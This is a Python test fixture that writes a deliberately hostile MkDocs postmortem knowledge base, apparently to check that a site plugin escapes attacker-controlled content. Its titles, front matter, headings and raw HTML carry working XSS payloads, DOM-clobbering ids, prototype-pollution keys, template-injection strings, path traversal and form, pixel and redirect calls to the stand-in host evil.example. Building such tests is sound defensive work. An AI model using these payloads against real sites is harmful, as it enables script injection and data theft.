"""A knowledge base that tries to do harm: in titles, names, links, raw HTML, headings, signals, services."""

from __future__ import annotations

from pathlib import Path

SHOT = "window.harmed=1"
"""What every attempt tries to run."""
TAG = f"<img src=x onerror={SHOT}>"
SCRIPT = f"</script><script>{SHOT}</script>"
TITLES = (
    f"Outage {SCRIPT}", f"Outage {TAG} \\\" onmouseover={SHOT} x", f"</title></svg><svg onload={SHOT}>",
    "]]> --> *bold* [link](javascript:window.harmed=1) {{ config }} {% raw %} ${harmed}",
)  # fmt: skip
RAW = f"""
<script>{SHOT}</script>
<img src=x onerror="{SHOT}"><svg onload="{SHOT}"><script>{SHOT}</script></svg>
<svg><animate onbegin="{SHOT}" attributeName=x dur=1s></svg><math><mtext><script>{SHOT}</script></mtext></math>
<a href="javascript:{SHOT}" id="js-link">click</a> <a href=" jAva&#x0A;script:{SHOT}">click</a>
<a href="data:text/html,<script>{SHOT}</script>">click</a> <a href="vbscript:x">click</a>
<iframe src="javascript:parent.{SHOT}"></iframe><object data="javascript:{SHOT}"></object><embed src="//evil.example/x">
<style>body{{background:url(//evil.example/css)}} .md-header{{display:none}}</style>
<p style="position:fixed;inset:0;background:url(//evil.example/style)">over</p>
<link rel=stylesheet href=//evil.example/link.css><meta http-equiv=refresh content="0;url=//evil.example/">
<base href="//evil.example/"><form action="//evil.example/"><button>send</button><input name=password></form>
<img src="//evil.example/pixel.gif"><img srcset="//evil.example/set.gif 1x"><video src="//evil.example/v" poster="//evil.example/p"></video>
<div id="hw-search" class="md-overlay" name="body">clobber</div><img name="body"><img id="__config"><form id="hw-results"></form>
<details open ontoggle="{SHOT}"><summary>more</summary>text</details><b onclick="{SHOT}" tabindex=1 autofocus onfocus="{SHOT}">b</b>
<noscript><p title="</noscript><img src=x onerror={SHOT}>"></noscript><template><script>{SHOT}</script></template>
<!--><script>{SHOT}</script>-->
"""
HEADINGS = "\n\n".join(
    f"## {name}\n\nText."
    for name in (
        "__config", "hw-search", "hw-results", "__drawer", "__search", "__palette_0", "__md_scope", "__toc", "location",
        "document", "body", "fn-1", f"Heading {TAG}", "hw-explorer",
    )
)  # fmt: skip


def document(at: int, title: str) -> str:
    """One document, published, so that it stands in every list, chart and feed."""
    odd = f"'{TAG}'"
    again = "recurs: [2026-10-01-poison-0]\n" if at else ""
    return f"""---
title: "{title}"
status: published
severity: {"SEV1" if at else odd}
services: ['../x{TAG}', payments]
signals: ['Alert{SCRIPT}', '../../signal']
started: 2026-10-{at + 1:02}T09:00Z
detected: 2026-10-{at + 1:02}T09:10Z
mitigated: 2026-10-{at + 1:02}T09:50Z
resolved: 2026-10-{at + 1:02}T10:00Z
reviewed: 2026-10-{at + 1:02}T15:00Z
authors: ['{TAG}']
tags: ['{TAG}', '__proto__', 'constructor']
{again}---

## Summary

It broke {TAG} [here](javascript:{SHOT}), ![x](javascript:{SHOT}), <https://ok.example/"{TAG}>.
{RAW}
## Timeline

- 2026-10-{at + 1:02} 09:00 — change: {TAG} is deployed [now](javascript:{SHOT}).
- 09:10 — signal: **{SCRIPT}** fires.
- 09:50 — action: <img src=x onerror={SHOT}> is rolled back.
- 10:00 — result: `{SCRIPT}` is gone.

## Impact

- Users: 10% {TAG} of requests failed.
- {TAG}: 20 more.

## Contributing factors

- **F1**: {TAG} had no limit. #detection
- **F2**: [Nobody](javascript:{SHOT}) looked. #capacity _Accepted by @{"a" * 9} until 2026-11-01:_ {TAG}

## What went well

- {TAG} was seen.

## Action items

| ID | Type | Action | Owner | Due | Status | Addresses | Tracker |
| -- | -- | -- | -- | -- | -- | -- | -- |
| A1 | Fix | Remove {TAG} | @x{TAG} | 2026-10-20 | open | F1 | [T-1](javascript:{SHOT}) |
| A2 | Detect | Look [harder](javascript:{SHOT}) | @amara | 2026-10-21 | dropped: {TAG} | F2 | javascript:{SHOT} |
| HW-SEARCH | Detect | Clobber | @amara | 2026-10-22 | done 2026-10-21 | F2 | |

{HEADINGS}
"""


def write_poison(root: Path) -> Path:
    """The knowledge base under `root`; the result is its `mkdocs.yml`."""
    folder = root / "postmortems" / "2026"
    folder.mkdir(parents=True)
    for at in range(12):
        text = document(at, TITLES[at % len(TITLES)])
        (folder / f"2026-10-{at + 1:02}-poison-{at}.md").write_text(text, "utf-8")
    config = root / "mkdocs.yml"
    config.write_text(
        "site_name: 'Larkmere <b>&'\nsite_url: https://kb.example/team/\ndocs_dir: postmortems\ntheme:\n  name: material\n"
        "plugins:\n  - hotwash:\n      today: 2026-11-24\n",
        "utf-8",
    )
    return config
